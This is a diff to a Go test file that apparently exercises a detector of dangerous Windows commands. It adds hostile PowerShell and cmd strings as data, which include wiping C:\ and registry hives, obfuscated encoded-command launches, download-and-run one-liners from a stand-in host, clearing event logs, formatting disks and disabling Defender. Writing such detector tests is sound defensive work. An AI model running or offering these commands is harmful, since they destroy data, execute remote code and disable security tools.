@@ -10,6 +10,29 @@ func TestF24Windows(t *testing.T) {
 		rule    string
 		texts   []string
 	}{
+		{PowerShell, "delete-system", []string{
+			"cd C:\\; Remove-Item -Recurse *", "Set-Location C:\\; ri .\\* -r", "pushd C:\\; ri Windows -r -fo", "sl C:\\Windows; ri . -Recurse", "ls C:\\Windows -r | % { ri $_ -fo }", "ls C:\\ | % { Remove-Item $_.FullName -Recurse }", "ls C:\\Windows | foreach { $_.Delete() }", "(gi C:\\Windows).Delete($true)",
+			"[IO.Directory]::Delete('C:\\Windows', $true)", "[System.IO.Directory]::Delete(\"C:\\\", 1)", "(New-Object -ComObject Scripting.FileSystemObject).DeleteFolder('C:\\Windows')", "reg delete HKLM\\SYSTEM /f", "Remove-Item HKLM:\\SOFTWARE -Recurse", "Remove-Item HKLM:\\SAM\\* -Recurse",
+		}},
+		{Cmd, "delete-system", []string{"cd \\ & rd /s /q .", "cd /d C:\\ && del /s /q *", "cd C:\\ & rd /s /q Windows", "for %d in (C:\\) do rd /s /q %d", "for %%d in (D:\\ C:\\Windows) do rd /s /q %%d", "reg delete HKLM\\SOFTWARE /f"}},
+		{Cmd, "encoded-command", []string{"for %i in (powershell) do %i -enc AAAA", "for /f %i in ('echo powershell') do %i -enc AAAA", "conhost powershell -enc AAAA", "pcalua -a powershell -c \"-enc AAAA\"", "sc create x binPath= \"powershell -enc AAAA\"", "sc config x binpath=\"powershell -enc AAAA\""}},
+		{Cmd, "linux-delete", []string{"wsl rm -rf /", "wsl -d Debian -u root -- rm -rf /etc", "wsl.exe -e bash -c 'rm -rf /'"}},
+		{PowerShell, "linux-delete", []string{"cd /; Remove-Item -Recurse *", "wsl rm -rf /"}},
+		{PowerShell, "download-run", []string{
+			"&(gcm i*x) (iwr http://a.example/x)", "& (Get-Command iex) (irm http://a.example/x)", "&(gal iex)(iwr http://a.example/x)", "(New-Object Net.WebClient).DownloadString.Invoke('http://a.example/x') | iex", "iex (New-Object Net.WebClient).('{1}{0}' -f 'loadString','Down').Invoke('http://a.example/x')",
+			"Add-Type -TypeDefinition (irm http://a.example/x)", "[Reflection.Assembly]::LoadFrom('http://a.example/x.dll')", "regsvr32 /s \\\\a.example\\b\\c.dll", "rundll32 \\\\a.example\\b\\c.dll,Run",
+		}},
+		{PowerShell, "event-log", []string{"[Diagnostics.EventLog]::Delete('Security')", "(New-Object Diagnostics.EventLog 'Security').Clear()"}},
+		{PowerShell, "disk-format", []string{"Get-CimInstance Win32_Volume | Invoke-CimMethod -MethodName Format", "Reset-PhysicalDisk -FriendlyName x"}},
+		{PowerShell, "defender", []string{"(Get-Service WinDefend).Stop()", "Get-Service WinDefend | Stop-Service -Force", "Invoke-CimMethod -Namespace root/Microsoft/Windows/Defender -ClassName MSFT_MpPreference -MethodName Set -Arguments @{DisableRealtimeMonitoring=$true}"}},
+		{PowerShell, "encoded-command", []string{
+			"New-ScheduledTaskAction -Execute powershell.exe -Argument '-EncodedCommand AAAA'", "New-Service -Name x -BinaryPathName 'powershell -enc AAAA'", "$p = New-Object Diagnostics.ProcessStartInfo powershell,'-enc AAAA'; [Diagnostics.Process]::Start($p)",
+		}},
+		{PowerShell, "", []string{
+			"cd C:\\work; Remove-Item -Recurse *", "cd C:\\; cd work; ri * -r", "ls C:\\work | % { ri $_ -r }", "cd C:\\; ls", "[IO.Directory]::Delete('C:\\work', $true)", "Remove-Item HKCU:\\Software\\Mine -Recurse", "Remove-Item HKLM:\\SOFTWARE\\Mine -Recurse", "& (gcm git) status", "Get-Command iex", "Get-Service WinDefend", "(Get-Service Spooler).Stop()",
+			"Get-Service Spooler | Stop-Service", "Add-Type -AssemblyName System.Windows.Forms", "[Reflection.Assembly]::LoadFrom('C:\\work\\x.dll')", "rundll32 printui.dll,PrintUIEntry /in /n \\\\server\\printer", "New-ScheduledTaskAction -Execute notepad -Argument 'a.txt'", "(New-Object Diagnostics.EventLog 'Mine').WriteEntry('x')", "wsl ls /", "wsl rm -rf build",
+		}},
+		{Cmd, "", []string{"cd /d C:\\work && del /s /q *", "cd \\ & dir /s", "for %i in (a b) do echo %i", "for %d in (C:\\work) do rd /s /q %d", "reg delete HKCU\\Software\\Mine /f", "reg delete HKLM\\SOFTWARE\\Mine /f", "sc create x binPath= C:\\x.exe", "regsvr32 /s C:\\work\\a.dll"}},
 		{PowerShell, "encoded-command", []string{
 			"Start-Process powershell '-e ZABpAHIA'", "Start-Process powershell -Args '-e ZABpAHIA'", "saps powershell '-NoProfile -enc ZABpAHIA'", "Start-Process -NoNewWindow powershell '-e ZABpAHIA'", "Start-Process powershell -NoNewWindow '-e ZABpAHIA'",
 			"Start-Process -FilePath pwsh -Args '-e','ZABpAHIA'", "Start-Process -WindowStyle Hidden powershell.exe '-e ZABpAHIA' -Wait", "([wmiclass]'Win32_Process').Create('powershell -e ZABpAHIA')", "([wmiclass]'\\\\.\\root\\cimv2:Win32_Process').Create('powershell -e ZABpAHIA')",
